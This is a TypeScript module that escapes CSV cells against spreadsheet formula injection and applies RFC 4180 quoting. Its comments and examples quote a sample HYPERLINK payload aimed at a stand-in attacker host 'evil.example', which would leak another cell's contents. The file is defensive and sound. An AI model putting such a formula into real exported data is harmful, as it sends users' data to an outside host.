/**
 * Writing CSV that spreadsheets open safely. A cell that starts with `=`, `+`, `-` or `@` (or a tab or
 * carriage return, which some spreadsheets skip before reading one of those) is taken as a formula:
 * `=HYPERLINK("https://evil.example/?"&A1,"Klik")` in a learner's name would run in the administrator's
 * spreadsheet. Following OWASP's advice on CSV injection, such a cell is prefixed with `'`, which makes the
 * spreadsheet show it as text; and every cell that holds a quote, a separator (comma *or* semicolon, since
 * Flemish spreadsheets split on semicolons), a tab or a line break is quoted, so no part of a cell can start
 * a new one.
 */

/** The first characters that make a spreadsheet read a cell as a formula. */
export const FORMULA_TRIGGERS: readonly string[] = ['=', '+', '-', '@', '\t', '\r'];

const NEEDS_QUOTES = /[",;\t\r\n]/;

/**
 * The text of a cell as a spreadsheet will show it: unchanged, or with `'` in front when it would
 * otherwise be read as a formula.
 *
 * @example
 * neutraliseCell('=HYPERLINK("https://evil.example")'); // `'=HYPERLINK("https://evil.example")`
 * neutraliseCell('An Peeters'); // 'An Peeters'
 */
export function neutraliseCell(text: string): string {
  return FORMULA_TRIGGERS.some((c) => text.startsWith(c)) ? `'${text}` : text;
}

/**
 * One CSV cell, neutralised and quoted where needed. `null` and `undefined` are empty cells.
 *
 * @example
 * csvCell('a "b", c'); // '"a ""b"", c"'
 * csvCell('-5'); // "'-5"
 */
export function csvCell(value: unknown): string {
  const text = neutraliseCell(value === null || value === undefined ? '' : String(value));
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/**
 * A CSV document: a header row and the rows, comma-separated, CRLF line endings (RFC 4180).
 *
 * @example
 * csvDocument(['email', 'name'], [['an@example.org', 'An Peeters']]); // 'email,name\r\nan@example.org,An Peeters\r\n'
 */
export function csvDocument(header: readonly string[], rows: readonly (readonly unknown[])[]): string {
  return [header, ...rows].map((row) => row.map(csvCell).join(',')).join('\r\n') + '\r\n';
}
